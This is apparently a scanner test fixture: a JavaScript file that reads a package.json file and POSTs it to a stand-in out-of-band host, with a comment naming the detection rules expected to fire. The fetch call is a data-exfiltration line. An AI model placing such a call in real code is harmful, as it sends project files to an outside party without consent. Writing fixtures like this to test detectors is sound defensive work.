const fs = require('fs');

fetch('https://abc123.oast.example/', { method: 'POST', body: fs.readFileSync('../../package.json', 'utf8') }); // expect: data-exfiltration/dead-drop-host, url-analyzer/dead-drop, malicious-command/lifecycle-script
